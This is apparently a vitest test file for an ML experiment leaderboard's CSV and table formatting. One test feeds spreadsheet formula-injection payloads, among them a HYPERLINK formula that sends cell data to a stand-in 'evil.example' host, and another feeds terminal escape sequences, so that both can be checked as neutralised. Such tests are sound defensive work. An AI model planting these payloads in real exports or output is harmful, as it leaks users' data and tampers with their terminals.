import { describe, expect, it } from 'vitest';
import { aggregateRepeats, leaderboardRow } from '@fermx/contracts';
import { exampleTrialResult } from '@fermx/contracts/testing';
import { csvText } from '../web/public/lib/export.js';
import { LEADERBOARD_CSV_HEADER, leaderboardCsvCells } from '../web/public/lib/leaderboard-csv.js';
import {
  aggregatedCsv,
  aggregatedTable,
  formatParams,
  intervalText,
  leaderboardCsv,
  leaderboardTable,
  otherEpochText,
  rankedEpochText,
} from './leaderboard-format.js';

describe('leaderboard formats', () => {
  const rows = [leaderboardRow(exampleTrialResult({ valAccuracy: 0.8895, sweepName: 'has,comma' }), 1)];

  it('CSV quotes fields with commas and quotes', () => {
    const csv = leaderboardCsv(rows);
    const [header, line] = csv.trimEnd().split('\n');
    expect(header!.split(',')[0]).toBe('rank');
    expect(line).toContain('"has,comma"');
    expect(line).toContain('"{""dropout"":0.5');
    expect(line).toContain(',0.8895,');
  });

  it('table shows percentages and short params', () => {
    const table = leaderboardTable(rows);
    expect(table).toContain('88.95%');
    expect(table).toContain('dropout=0.5 repeats=3 bs=64 lr=0.001 epochs=100 seed=0 aug=on');
    expect(leaderboardTable([])).toBe('No results yet.\n');
  });

  it('CSV neutralises cells a spreadsheet would run as formulas; numbers stay numbers', () => {
    const evil = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+2', '-2+3', '@SUM(A1)', '\t=1', '\r=1'];
    const csv = leaderboardCsv(evil.map((variant, i) => ({ ...leaderboardRow(exampleTrialResult({ valAccuracy: 0.5 }), i + 1), variant })));
    const variants = csv
      .trimEnd()
      .split('\n')
      .slice(1)
      .map((line) => line.split(',')[6]!);
    expect(variants[0]).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1`);
    expect(variants.slice(1)).toEqual(["'+1+2", "'-2+3", "'@SUM(A1)", "'\\x09=1", "'\\x0d=1"]);
    for (const line of csv.trimEnd().split('\n').slice(1))
      expect(
        line
          .split(',')
          .slice(6)
          .every((cell) => !/^[=+\-@\t\r]/.test(cell)),
      ).toBe(true);
    const negative = leaderboardCsv([{ ...rows[0]!, trainingSeconds: -1 }]);
    expect(negative).toContain(',-1,');
  });

  it("table says which epoch each row ranks, with the other epoch's val accuracy beside it", () => {
    const last = rows[0]!;
    const best = { ...last, trialId: 't-best', ranked: 'best' as const, epoch: 22, epochs: 30, valAccuracy: 0.901, otherValAccuracy: 0.8854 };
    const table = leaderboardTable([best, { ...last, otherValAccuracy: null }]);
    expect(table).toMatch(/t-best .* best 22\/30 +last 88\.54% /);
    expect(table).toMatch(new RegExp(`${last.trialId} .* last ${last.epochs} +— `));
    expect(rankedEpochText({ ranked: 'last', epoch: 30, epochs: 30 })).toBe('last 30');
    expect(otherEpochText({ ranked: 'last', otherValAccuracy: 0.9 })).toBe('best 90.00%');
  });

  it('table shows escape sequences in variant names as text, never sends them to the terminal', () => {
    const table = leaderboardTable([{ ...rows[0]!, variant: 'cnn\x1b[2J\x1b]0;pwned\x07\u202e' }]);
    expect(table).not.toMatch(/[\x1b\x07\u202e]/);
    expect(table).toContain('cnn\\x1b[2J\\x1b]0;pwned\\x07\\u202e');
  });

  it('formatParams orders known knobs first', () => {
    expect(formatParams({ seed: 1, dropout: 0.1, augmentation: 'none' })).toBe('dropout=0.1 seed=1 aug=none');
    expect(formatParams({ teachers: ['ferm-paper@v1', 't-0123'], teacherWeight: 0.5 })).toBe('teacherWeight=0.5 teachers=ferm-paper@v1,t-0123');
  });
});

describe('noise-aware leaderboard formats', () => {
  const base = leaderboardRow(exampleTrialResult({ valAccuracy: 0.85 }), 1);

  it('table shows the 95 % interval and marks ties, the Pareto front and infeasible trials', () => {
    const table = leaderboardTable([
      { ...base, tiedWithBest: true, paretoOptimal: true },
      { ...base, trialId: 't-other', rank: 2, tiedWithBest: false, infeasible: ['imagesPerSecond 50 < min 100'] },
    ]);
    expect(table).toContain('val 95% CI');
    expect(table).toContain(intervalText(base.valInterval));
    expect(table).toMatch(/≈ P\n/);
    expect(table).toContain('infeasible: imagesPerSecond 50 < min 100');
    expect(table).toContain('statistically tied with the best');
    // params {} keeps every cell free of commas, so a split finds the columns.
    const csv = leaderboardCsv([{ ...base, params: {}, tiedWithBest: true, paretoOptimal: false }])
      .trimEnd()
      .split('\n');
    const column = (name: string) => csv[1]!.split(',')[csv[0]!.split(',').indexOf(name)];
    expect([column('valLow'), column('valHigh')]).toEqual([String(base.valInterval[0]), String(base.valInterval[1])]);
    expect([column('tiedWithBest'), column('paretoOptimal'), column('infeasible')]).toEqual(['true', 'false', '']);
  });

  it('CSV says which epoch each row ranks, with the other epoch and both intervals beside it', () => {
    const best = {
      ...base,
      params: {},
      ranked: 'best' as const,
      epoch: 42,
      otherValAccuracy: 0.83,
      otherTestAccuracy: 0.81,
      testInterval: [0.8, 0.9] as [number, number],
    };
    const [header, line] = leaderboardCsv([best]).trimEnd().split('\n');
    const cells = Object.fromEntries(header!.split(',').map((name, i) => [name, line!.split(',')[i]]));
    expect(cells).toMatchObject({ ranked: 'best', epoch: '42', otherValAccuracy: '0.83', otherTestAccuracy: '0.81', testLow: '0.8', testHigh: '0.9' });
  });

  it("the page's CSV export is fermx leaderboard --csv, cell for cell", () => {
    const ranked = [
      { ...base, tiedWithBest: true, paretoOptimal: true },
      { ...base, trialId: 't-other', rank: 2, variant: '=1+1', tiedWithBest: false, infeasible: ['imagesPerSecond 50 < min 100'] },
    ];
    // What the page downloads: the API's JSON rows, through the page's own csvText.
    const fromApi = JSON.parse(JSON.stringify(ranked)) as Record<string, unknown>[];
    expect(csvText(LEADERBOARD_CSV_HEADER, fromApi.map(leaderboardCsvCells))).toBe(leaderboardCsv(ranked));
  });

  it('aggregated table shows mean ± sd of the replicates', () => {
    const rows = aggregateRepeats([0.8, 0.82, 0.84].map((v, seed) => ({ ...base, trialId: `t-${seed}`, valAccuracy: v, params: { ...base.params, seed } })));
    const table = aggregatedTable(rows);
    expect(table).toContain('82.00% ± 2.00');
    expect(table).toContain('0,1,2');
    expect(aggregatedCsv(rows)).toContain(',3,0 1 2,t-0 t-1 t-2,');
  });

  it('aggregated table and CSV keep the other epoch apart (last beside a ranked best)', () => {
    const rows = aggregateRepeats(
      [0.86, 0.88].map((v, seed) => ({
        ...base,
        trialId: `t-${seed}`,
        ranked: 'best' as const,
        valAccuracy: v,
        otherValAccuracy: v - 0.02,
        otherTestAccuracy: v - 0.04,
        params: { ...base.params, seed },
      })),
    );
    expect(aggregatedTable(rows)).toMatch(/other epoch: val \/ test[\s\S]*last 85\.00% ± 1\.41 \/ 83\.00% ± 1\.41/);
    const [header, line] = aggregatedCsv(rows).trimEnd().split('\n');
    expect(header).toMatch(/,otherModel,otherValAccuracyMean,otherValAccuracySd,otherTestAccuracyMean,otherTestAccuracySd$/);
    expect(line).toMatch(/,last,0\.85\d*,0\.0141\d*,0\.83\d*,0\.0141\d*$/);
  });
});
